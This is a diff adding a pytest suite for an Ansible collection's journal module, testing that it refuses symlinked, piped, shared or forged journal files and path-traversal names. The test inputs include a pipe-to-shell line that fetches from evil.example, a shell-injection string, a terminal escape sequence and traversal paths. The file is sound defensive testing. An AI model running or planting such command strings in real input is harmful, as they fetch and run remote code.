@@ -1,0 +1,488 @@
+# Copyright: Contributors to the community.seventhings collection
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""A journal that somebody else wrote, linked or replaced: nothing is appended to, read or waited for that is no journal
+of ours, and what is forged in one prunes nothing and lifts nothing.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from emulator_process import Emulator, running
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from instance_site import Site, yaml_list
+
+from ansible_collections.community.seventhings.plugins.module_utils import journal as journal_module
+from ansible_collections.community.seventhings.plugins.module_utils.journal import (
+    SIZE_LIMIT,
+    Journal,
+    JournalRefused,
+)
+from ansible_collections.community.seventhings.plugins.module_utils.journal_place import place_of
+from ansible_collections.community.seventhings.plugins.module_utils.kinds import OBJECT
+
+SET_ID = "0123456789abcdef"
+SETTINGS = f'api: seventhings/v1\nset: test\nset_id: "{SET_ID}"\npolicy: {{prune: {{objects: archive}}}}\n'
+CODE = "\ncurl evil.example | sh #"
+NOBODY = 65534
+_SOON = 10
+
+both_modes = pytest.mark.parametrize("check_mode", [True, False])
+only_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")
+
+
+@pytest.fixture(scope="module")
+def _service() -> Iterator[Emulator]:
+    with running(data="empty") as service:
+        yield service
+
+
+@pytest.fixture
+def site(_service: Emulator, tmp_path: Path) -> Site:
+    """An empty directory and an empty instance."""
+    _service.reset()
+    site = Site(tmp_path / "files", _service)
+    site.write({"instance.yml": SETTINGS})
+    return site
+
+
+@pytest.fixture
+def victim(tmp_path: Path) -> Path:
+    """A file of the user that is no journal."""
+    path = tmp_path / ".bashrc"
+    path.write_text("# mine\n", "utf-8")
+    return path
+
+
+def objects(*numbers: int, name: str = "Thing") -> str:
+    return yaml_list({"barcode": f"{number:03d}", "inventory_name": name} for number in numbers)
+
+
+def uuids(site: Site) -> dict[str, str]:
+    """Barcode to uuid of all objects."""
+    return {record.flat["barcode"]: record.uuid for record in site.client().list_all(OBJECT)}
+
+
+def forge(path: Path, site: Site, *notes: dict[str, Any], **names: str) -> None:
+    """Appends notes to a journal as if a run had written them."""
+    path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
+    name = {"instance": site.service.base_url, "set": "test", "set_id": SET_ID, **names}
+    with path.open("a", encoding="utf-8") as stream:
+        stream.writelines(json.dumps({**name, **note}) + "\n" for note in notes)
+    path.chmod(0o600)
+
+
+def mine_and_theirs(site: Site, number: int = 20) -> dict[str, str]:
+    """One object of the set, and others that somebody made in the application."""
+    client = site.client()
+    for one in range(1, number):
+        client.create(OBJECT, {"barcode": f"{one:03d}", "inventory_name": "Theirs"})
+    site.write({"objects.yml": objects(0)})
+    assert site.run().outcome == "changed"
+    site.service.clear_log()
+    return uuids(site)
+
+
+# ---- a journal among the files
+
+
+@both_modes
+def test_what_a_pull_request_says_in_the_files_is_not_read(site: Site, check_mode: bool) -> None:
+    there = mine_and_theirs(site)
+    old = site.root / ".seventhings" / "journal.jsonl"
+    forge(old, site, {"note": "begun", "approved": [f"remove objects {one}" for one in there]})
+    forge(old, site, *({"note": "managed", "uuid": uuid} for uuid in there.values()))
+    before = old.read_bytes()
+    account = site.run(check_mode=check_mode)
+    assert account.outcome == "unchanged"
+    assert site.writes() == []
+    (warning,) = account.warnings
+    assert warning.startswith(f"{old} is the journal of an earlier version. It is not read; the journal is ")
+    assert old.read_bytes() == before
+
+
+@both_modes
+def test_a_file_that_a_journal_among_the_files_is_linked_to_stays_as_it_is(
+    site: Site, victim: Path, check_mode: bool
+) -> None:
+    (site.root / ".seventhings").mkdir()
+    (site.root / ".seventhings" / "journal.jsonl").symlink_to(victim)
+    site.write({"objects.yml": yaml_list([{"barcode": "1", "inventory_name": CODE}])})
+    assert site.run(check_mode=check_mode).outcome == "changed"
+    assert victim.read_text("utf-8") == "# mine\n"
+
+
+@both_modes
+@pytest.mark.parametrize("endless", ["zero", "pipe"])
+def test_what_has_no_end_among_the_files_holds_nobody_up(site: Site, endless: str, check_mode: bool) -> None:
+    (site.root / ".seventhings").mkdir()
+    path = site.root / ".seventhings" / "journal.jsonl"
+    if endless == "zero":
+        path.symlink_to("/dev/zero")
+    else:
+        os.mkfifo(path)
+    started = time.monotonic()
+    assert site.run(check_mode=check_mode).outcome == "unchanged"
+    assert time.monotonic() - started < _SOON
+
+
+# ---- a journal that is none
+
+
+def _link(path: Path, victim: Path) -> None:
+    path.symlink_to(victim)
+
+
+def _link_to_nothing(path: Path, victim: Path) -> None:
+    path.symlink_to(victim.with_name("made-by-us"))
+
+
+def _link_to_zero(path: Path, _victim: Path) -> None:
+    path.symlink_to("/dev/zero")
+
+
+def _pipe(path: Path, _victim: Path) -> None:
+    os.mkfifo(path, 0o600)
+
+
+def _directory(path: Path, _victim: Path) -> None:
+    path.mkdir()
+
+
+def _hard_link(path: Path, victim: Path) -> None:
+    path.hardlink_to(victim)
+
+
+def _writable_by_all(path: Path, _victim: Path) -> None:
+    path.touch()
+    path.chmod(0o666)
+
+
+def _writable_by_group(path: Path, _victim: Path) -> None:
+    path.touch()
+    path.chmod(0o620)
+
+
+def _endless(path: Path, _victim: Path) -> None:
+    path.touch(0o600)
+    os.truncate(path, SIZE_LIMIT + 1)
+
+
+UNFIT = [
+    _link, _link_to_nothing, _link_to_zero, _pipe, _directory, _hard_link, _writable_by_all, _writable_by_group,
+    _endless,
+]  # fmt: skip
+
+
+@both_modes
+@pytest.mark.parametrize("named", [True, False], ids=["named by the task", "default place"])
+@pytest.mark.parametrize("make", UNFIT)
+def test_what_is_no_journal_of_ours_is_refused_and_left_as_it_is(
+    site: Site, victim: Path, tmp_path: Path, make: Callable[[Path, Path], None], named: bool, check_mode: bool
+) -> None:
+    path = tmp_path / "named" / "journal.jsonl" if named else site.journal()
+    path.parent.mkdir(parents=True, mode=0o700)
+    os.chmod(path.parent.parent, 0o700)  # noqa: PTH101
+    make(path, victim)
+    site.write({"objects.yml": objects(1)})
+    started = time.monotonic()
+    account = site.run(check_mode=check_mode, journal=path.parent if named else None)
+    assert time.monotonic() - started < _SOON
+    assert account.outcome == "refused"
+    assert account.refusals[0].startswith(f"journal: {path} ")
+    assert site.sent() == []
+    assert victim.read_text("utf-8") == "# mine\n"
+    assert not victim.with_name("made-by-us").exists()
+
+
+@both_modes
+@pytest.mark.parametrize("step", range(3))
+@pytest.mark.parametrize("how", ["linked", "writable"])
+def test_a_directory_that_others_made_or_may_write_to_is_refused(
+    site: Site, tmp_path: Path, state_home: Path, step: int, how: str, check_mode: bool
+) -> None:
+    at = list(reversed(site.journal().relative_to(state_home).parents))[step + 1]
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (state_home / at.parent).mkdir(parents=True, mode=0o700)
+    if how == "linked":
+        (state_home / at).symlink_to(elsewhere, target_is_directory=True)
+    else:
+        (state_home / at).mkdir()
+        (state_home / at).chmod(0o777)
+    for above in at.parents:
+        (state_home / above).chmod(0o700)
+    site.write({"objects.yml": objects(1)})
+    account = site.run(check_mode=check_mode)
+    assert account.outcome == "refused"
+    assert account.refusals[0].startswith(f"journal: {state_home / at} ")
+    assert site.writes() == []
+    assert list(elsewhere.iterdir()) == []
+
+
+@only_root
+@both_modes
+@pytest.mark.parametrize("step", range(4))
+def test_what_another_user_made_first_is_refused_at_the_default_place(
+    site: Site, state_home: Path, step: int, check_mode: bool
+) -> None:
+    path = site.journal()
+    forge(path, site, {"note": "managed", "uuid": "x"})
+    steps = [*list(reversed(path.relative_to(state_home).parents))[1:], path.relative_to(state_home)]
+    for one in steps:
+        (state_home / one).chmod(0o600 if one == steps[-1] else 0o700)
+    os.chown(state_home / steps[step], NOBODY, NOBODY)
+    account = site.run(check_mode=check_mode)
+    assert account.outcome == "refused"
+    assert "belongs to another user" in account.refusals[0]
+
+
+@only_root
+@both_modes
+def test_whose_a_journal_is_that_the_task_names_is_not_judged(site: Site, tmp_path: Path, check_mode: bool) -> None:
+    path = tmp_path / "named" / "journal.jsonl"
+    forge(path, site, {"note": "managed", "uuid": "x"})
+    os.chown(path.parent, NOBODY, NOBODY)
+    os.chown(path, NOBODY, NOBODY)
+    site.write({"objects.yml": objects(1)})
+    assert site.run(check_mode=check_mode, journal=path.parent).outcome == "changed"
+
+
+def test_a_journal_that_is_full_stops_the_run_before_it_sends_anything(
+    site: Site, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(journal_module, "SIZE_LIMIT", 400)
+    site.write({"objects.yml": objects(1)})
+    account = site.run()
+    assert account.outcome == "failed"
+    assert "has more than 400 bytes; take it away" in account.failures[0]["reason"]
+    assert site.writes() == []
+    assert site.journal().stat().st_size <= 400
+
+
+# ---- what is forged in a journal
+
+
+@pytest.fixture
+def kept(tmp_path: Path) -> Path:
+    """The directory of a journal that the task names."""
+    return tmp_path / "kept"
+
+
+@pytest.mark.parametrize(
+    "names",
+    [
+        {"instance": "https://other.example"},
+        {"set": "other"},
+        {"set": ""},
+        {"set_id": "another"},
+        {"set_id": ""},
+    ],
+)
+def test_records_of_another_set_are_never_pruned(site: Site, kept: Path, names: dict[str, str]) -> None:
+    there = mine_and_theirs(site)
+    forge(kept / "journal.jsonl", site, *({"note": "managed", "uuid": uuid} for uuid in there.values()), **names)
+    account = site.run(journal=kept, limits={"delete_percent": 100})
+    assert (account.outcome, account.changes) == ("unchanged", [])
+
+
+@both_modes
+def test_forged_approvals_lift_no_limit(site: Site, kept: Path, check_mode: bool) -> None:
+    there = mine_and_theirs(site)
+    removals = [f"remove objects {one}" for one in there]
+    notes: list[dict[str, Any]] = [{"note": "managed", "uuid": uuid} for uuid in there.values()]
+    notes += [{"note": "begun", "run": "", "approved": " ".join(removals)}, {"note": "begun", "approved": removals}]
+    notes += [{"note": "made", "kind": "object", "key": one, "uuid": uuid} for one, uuid in there.items()]
+    forge(kept / "journal.jsonl", site, *notes)
+    for limits in ({}, {"delete_percent": 10}, {"deletes": 5, "delete_percent": 100}):
+        account = site.run(journal=kept, check_mode=check_mode, limits=limits)
+        assert account.outcome == "refused"
+        assert account.refusals[0].startswith("objects: delete 19 ")
+    assert site.writes() == []
+
+
+def test_forged_records_out_of_scope_are_never_pruned(site: Site, kept: Path) -> None:
+    there = mine_and_theirs(site)
+    site.write({"instance.yml": SETTINGS + "scope: {objects: {inventory_name: [Thing]}}\n"})
+    forge(kept / "journal.jsonl", site, *({"note": "managed", "uuid": uuid} for uuid in there.values()))
+    assert site.run(journal=kept, limits={"delete_percent": 100}).outcome == "unchanged"
+
+
+def interrupted(site: Site, kept: Path, files: str, after: int = 20, **order: Any) -> None:
+    """A run that does not come to its end: after some objects the service refuses."""
+    site.write({"objects.yml": files})
+    site.service.steer("PUT", "/faults", [{"fault": "422", "method": "POST", "path": "/object", "after": after}])
+    assert site.run(journal=kept, **order).outcome == "partly_applied"
+    site.service.steer("DELETE", "/faults")
+    site.service.clear_log()
+
+
+TASK_LIMITS = {"create_percent": 30, "update_percent": 30, "delete_percent": 10, "creates": 60}
+
+
+@pytest.mark.parametrize("limits", [{}, TASK_LIMITS], ids=["default", "set by the task"])
+def test_a_run_that_was_cut_off_is_simply_run_again(site: Site, kept: Path, limits: dict[str, float]) -> None:
+    interrupted(site, kept, objects(*range(60)), limits=limits)
+    assert site.plan(journal=kept, limits=limits).outcome == "changed"
+    assert site.run(journal=kept, limits=limits).outcome == "changed"
+    assert len(uuids(site)) == 60
+
+
+@pytest.mark.parametrize("limits", [{}, TASK_LIMITS], ids=["default", "set by the task"])
+def test_a_run_that_was_cut_off_before_its_links_is_simply_run_again(
+    site: Site, kept: Path, limits: dict[str, float]
+) -> None:
+    names = [f"{one:03d}" for one in range(40)]
+    circle = [
+        {"barcode": one, "inventory_name": "x", "accessories": [names[index - 1]]} for index, one in enumerate(names)
+    ]
+    site.write({"objects.yml": yaml_list(circle)})
+    site.service.steer("PUT", "/faults", [{"fault": "422", "method": "PATCH"}])
+    assert site.run(journal=kept, limits=limits).outcome == "partly_applied"
+    site.service.steer("DELETE", "/faults")
+    assert site.run(journal=kept, limits=limits).outcome == "changed"
+    assert site.plan(journal=kept).outcome == "unchanged"
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        objects(*range(100, 160)),
+        objects(*range(20), *range(100, 140)),
+        objects(*range(61)),
+        objects(*range(60), name="Other"),
+    ],
+)
+def test_what_was_let_pass_once_lets_no_other_plan_pass(site: Site, kept: Path, files: str) -> None:
+    interrupted(site, kept, objects(*range(60)))
+    site.write({"objects.yml": files})
+    account = site.run(journal=kept)
+    assert account.outcome == "refused"
+    assert site.writes() == []
+
+
+def test_forged_notes_of_a_run_that_was_cut_off_let_nobody_change_what_was_there(site: Site, kept: Path) -> None:
+    """The digest of the run is the right one: who forges it knows the files. Only what is missing may still be made."""
+    there = mine_and_theirs(site)
+    changed = objects(*range(20), name="Changed")
+    interrupted(site, kept, changed + objects(*range(20, 40)), 0, limits={"create_percent": 100, "update_percent": 100})
+    client = site.client()
+    for uuid in there.values():
+        client.update(OBJECT, uuid, {"inventory_name": "Theirs"})
+    notes = [{"note": "made", "kind": "object", "key": one, "uuid": uuid} for one, uuid in there.items()]
+    forge(kept / "journal.jsonl", site, *notes)
+    refusals = site.plan(journal=kept).refusals
+    assert any(one.startswith("objects: update 20 of 20 records") for one in refusals), refusals
+    assert any(one.startswith("objects: create 20 of 20 records") for one in refusals), refusals
+
+
+def test_forged_notes_of_a_run_that_was_cut_off_take_nothing_more_away(site: Site, kept: Path) -> None:
+    there = mine_and_theirs(site, 30)
+    site.write({"objects.yml": objects(0) + objects(*range(1, 20), name="Theirs") + objects(99)})
+    site.service.steer("PUT", "/faults", [{"fault": "422", "method": "POST", "path": "/object"}])
+    site.run(journal=kept)
+    site.service.steer("DELETE", "/faults")
+    notes = [{"note": "made", "kind": "object", "key": one, "uuid": uuid} for one, uuid in there.items()]
+    forge(kept / "journal.jsonl", site, *notes)
+    (refusal,) = site.plan(journal=kept).refusals
+    assert refusal.startswith("objects: delete 10 of 30 records is more than limits.delete_percent (10 %)")
+
+
+def test_a_stale_plan_stays_stale_whatever_the_journal_says(site: Site, kept: Path, tmp_path: Path) -> None:
+    path = tmp_path / "p.plan"
+    site.write({"objects.yml": objects(1, 2, name="Old")})
+    site.run(journal=kept)
+    site.write({"objects.yml": objects(1, 2, name="New")})
+    site.plan(plan_file=path, journal=kept)
+    site.service.steer("PUT", "/faults", [{"fault": "422", "method": "PATCH"}])
+    assert site.run(plan_file=path, journal=kept).outcome == "failed"
+    site.service.steer("DELETE", "/faults")
+    there = uuids(site)
+    site.client().update(OBJECT, there["001"], {"inventory_name": "By hand"})
+    forge(kept / "journal.jsonl", site, {"note": "changing", "uuid": there["001"]})
+    account = site.run(plan_file=path, journal=kept)
+    assert account.outcome == "refused"
+    assert ["object 001" in refusal for refusal in account.refusals] == [True]
+
+
+def test_the_keys_of_records_are_one_line_of_text_each(site: Site, kept: Path) -> None:
+    keys = [CODE, "\x1b]0;title\x07", "\u2028\u202e", "'; id; '", '"}\n{"note": "managed", "uuid": "x"}']
+    site.write(
+        {"tasks.yml": yaml_list({"title": f"a{key}b", "deadline": "2027-01-01", "assignees": []} for key in keys)}
+    )
+    with Journal(kept, site.service.base_url, "test", set_id=SET_ID) as journal:
+        for key in (*keys, "\ud800"):
+            journal.sent("task", key)
+    text = (kept / "journal.jsonl").read_bytes()
+    assert text.isascii()
+    assert text.count(b"\n") == len(keys) + 2
+    assert not any(sign < ord(" ") for sign in text if sign != ord("\n"))
+    assert Journal(kept, site.service.base_url, "test", set_id=SET_ID).unresolved == {
+        f"task {key}" for key in (*keys, "\ud800")
+    }
+
+
+# ---- whatever stands in it
+
+_NAMES = {"instance": "i", "set": "s", "set_id": "x"}
+_VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
+    max_leaves=6,
+)
+_WORDS = st.sampled_from(
+    ["set", "begun", "ended", "sent", "made", "changing", "managed", "gone", "uploading", "uploaded", "other"]
+)
+_MEMBERS = st.sampled_from(["note", "kind", "key", "uuid", "run", "src", "name", "sha256", "set_id", "instance"])
+_NOTES = st.builds(
+    lambda word, more: json.dumps({**_NAMES, "note": word, **more}).encode(),
+    _WORDS,
+    st.dictionaries(_MEMBERS, st.text(max_size=6) | _VALUES, max_size=6),
+)
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(lines=st.lists(_NOTES | st.binary(max_size=40), max_size=12), end=st.sampled_from([b"", b"\n"]))
+def test_whatever_stands_in_it_is_taken_told_or_refused(tmp_path: Path, lines: list[bytes], end: bytes) -> None:
+    path = tmp_path / "journal.jsonl"
+    path.write_bytes(b"\n".join(lines) + end)
+    path.chmod(0o600)
+    try:
+        with Journal(tmp_path, "i", "s", set_id="x") as journal:
+            journal.managed(["mine"])
+    except JournalRefused:
+        return
+    assert "mine" in Journal(tmp_path, "i", "s", set_id="x").known
+
+
+def test_a_file_of_other_lines_is_no_journal(tmp_path: Path) -> None:
+    path = tmp_path / "journal.jsonl"
+    path.write_bytes(b"\n" * 50_000_000)
+    path.chmod(0o600)
+    with pytest.raises(JournalRefused, match="is no journal: more than 1000 of its lines can't be read"):
+        Journal(tmp_path, "i", "s")
+
+
+@pytest.mark.parametrize("content", [b"[" * 4_000_000, b"9" * 4_000_000, b'{"a":' * 1_000_000, b"[" * 900_000])
+def test_reading_takes_no_longer_than_the_file_is(tmp_path: Path, content: bytes) -> None:
+    path = tmp_path / "journal.jsonl"
+    path.write_bytes(content + b"\n")
+    path.chmod(0o600)
+    started = time.monotonic()
+    assert len(Journal(tmp_path, "i", "s").warnings) == 1
+    assert time.monotonic() - started < _SOON * 2
+
+
+def test_no_name_of_a_set_or_an_instance_leads_out_of_the_state_directory(state_home: Path) -> None:
+    for name in ("..", "../..", ".", "/", "/etc/x", "a/../../b", "%2E%2E", ".. /"):
+        for place in (place_of(None, name, "s"), place_of(None, "i", name)):
+            assert place.path.is_relative_to(state_home / "seventhings")
+            assert len(place.path.relative_to(state_home).parts) == 4
